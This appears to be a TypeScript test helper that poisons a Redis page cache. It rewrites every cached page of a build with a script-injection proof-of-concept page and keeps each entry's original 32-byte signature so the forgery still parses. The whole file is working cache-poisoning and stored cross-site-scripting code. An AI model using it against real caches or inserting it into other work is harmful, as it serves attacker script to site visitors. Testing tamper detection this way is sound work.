import { once } from 'node:events';
import { connect } from 'node:net';
import { brotliCompressSync } from 'node:zlib';

const evil = brotliCompressSync('<!doctype html><script>alert(document.domain)</script>');

/** Writes a page of one's own over every page of a build in Redis, behind the signature that lay there; says over how many. */
export async function poisonPages(port: number, build: string): Promise<number> {
  const socket = connect({ port, host: '127.0.0.1' });
  await once(socket, 'connect');
  const script = `
    local found = redis.call('keys', 'page:' .. ARGV[1] .. '*')
    for _, key in ipairs(found) do
      local entry = redis.call('get', key)
      local length = struct.unpack('>I4', string.sub(entry, 33, 36))
      local facts = string.gsub(string.sub(entry, 37, 36 + length), '"brBytes":%d+', '"brBytes":' .. #ARGV[2])
      local page = struct.pack('>I4', #facts) .. facts .. ARGV[2]
      redis.call('set', key, string.sub(entry, 1, 32) .. page, 'px', 60000)
    end
    return #found`;
  const words = ['EVAL', script, '0', build, evil].map((word) => Buffer.from(word));
  socket.write(`*${words.length}\r\n`);
  for (const word of words) {
    socket.write(`$${word.length}\r\n`);
    socket.write(word);
    socket.write('\r\n');
  }
  const [reply] = (await once(socket, 'data')) as [Buffer];
  socket.destroy();
  const [, count] = /^:(\d+)\r\n/.exec(reply.toString()) ?? [];
  if (count === undefined) throw new Error(reply.toString());
  return Number(count);
}
